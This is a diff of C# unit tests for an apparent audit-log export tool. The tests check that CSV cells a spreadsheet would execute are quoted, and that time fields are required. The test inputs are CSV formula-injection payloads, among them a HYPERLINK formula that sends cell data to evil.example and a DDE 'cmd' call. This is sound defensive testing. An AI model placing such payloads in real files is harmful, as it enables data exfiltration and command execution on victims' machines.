@@ -87,11 +87,78 @@ public sealed partial class StrictVerifierTests
         Assert.Equal(1, code);
         Assert.Contains("does not render ts", output, StringComparison.Ordinal);
 
-        // Without time the record is still complete: time is for people, ts is hashed.
+        // time is omitted only where ts has no calendar rendering (SPEC §5): a line without it would be
+        // missed by whoever sorts or filters by time, so it is invalid, in JSONL and in CSV alike.
         using var other = new TempDir();
         var fresh = Export(other);
         Edit(fresh, 3, l => Regex.Replace(l, "\"time\":\"[^\"]*\",", string.Empty));
-        Assert.Equal(0, Verify("--jsonl", fresh).Code);
+        var missing = Verify("--jsonl", fresh);
+        Assert.Equal(1, missing.Code);
+        Assert.StartsWith("invalid: seq 3: line 4: time is missing (ts ", missing.Output, StringComparison.Ordinal);
+
+        var csv = other.File("export.csv");
+        Assert.Equal(0, ExportCommand.Run(["--audit-dir", other.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
+        Edit(csv, 4, l => Regex.Replace(l, "^(\\d+,\\d+,)[^,]*,", "$1,"));
+        var missingCell = Verify("--csv", csv);
+        Assert.Equal(1, missingCell.Code);
+        Assert.StartsWith("invalid: seq 3: line 5: column time is missing (ts ", missingCell.Output, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
+    [InlineData("+cmd|'calc'!A0")]
+    [InlineData("-1+1")]
+    [InlineData("@SUM(A1:A9)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("'already quoted")]
+    [InlineData("''=1")]
+    [InlineData("'")]
+    public void A_csv_cell_a_spreadsheet_would_run_is_quoted_and_verify_csv_reads_it_back_exactly(string value)
+    {
+        using var dir = new TempDir();
+        var options = new ChronoGuard.Audit.AuditOptions { Directory = dir.File("audit"), QueueCapacity = 64 };
+        using (var writer = ChronoGuard.Audit.AuditWriter.Open(options, TimeProvider.System))
+        {
+            var r = default(ChronoGuard.Audit.AuditRecord);
+            r.Kind = ChronoGuard.Audit.AuditKind.Decision;
+            r.Set(ChronoGuard.Audit.AuditText.Agent, value);
+            r.Set(ChronoGuard.Audit.AuditText.Method, value);
+            r.Set(ChronoGuard.Audit.AuditText.Host, "plain.example");
+            writer.Append(ref r);
+        }
+
+        var csv = dir.File("export.csv");
+        Assert.Equal(0, ExportCommand.Run(["--audit-dir", dir.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
+        var row = ChronoGuard.Audit.AuditJson.SplitCsv(File.ReadAllText(csv).Split('\n')[1])!;
+        var header = ChronoGuard.Audit.AuditJson.Columns;
+        var recorded = ChronoGuard.Audit.AuditReader.ReadDirectory(dir.File("audit")).Single().Entry!;
+        var readBack = ChronoGuard.Audit.AuditReader.ReadCsv(csv).Single().Entry!;
+        Assert.Equal(value, recorded.Agent);
+        Assert.Equal("'" + value, row[Array.IndexOf(header, "agent")]);
+        Assert.Equal("'" + recorded.Method, row[Array.IndexOf(header, "method")]);
+        Assert.Equal("plain.example", row[Array.IndexOf(header, "host")]);
+        Assert.Equal(recorded.Agent, readBack.Agent);
+        Assert.Equal(recorded.Method, readBack.Method);
+        var verified = Verify("--csv", csv);
+        Assert.True(verified.Code == 0, verified.Output);
+        Assert.Equal(Verify("--audit-dir", dir.File("audit")).Output, verified.Output);
+    }
+
+    [Theory]
+    [InlineData("'plain")]
+    [InlineData("'")]
+    public void A_leading_quote_the_export_never_writes_is_invalid_in_verify_csv(string cell)
+    {
+        using var dir = new TempDir();
+        AuditTestData.WriteAndExport(dir, 5);
+        var csv = dir.File("export.csv");
+        Assert.Equal(0, ExportCommand.Run(["--audit-dir", dir.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
+        Edit(csv, 3, l => l.Replace(",bot-2,", "," + cell + ",", StringComparison.Ordinal));
+
+        var (code, output) = Verify("--csv", csv);
+        Assert.Equal(1, code);
+        Assert.StartsWith("invalid: seq 2: line 4: column agent begins with ' that an export does not write", output, StringComparison.Ordinal);
     }
 
     [Fact]
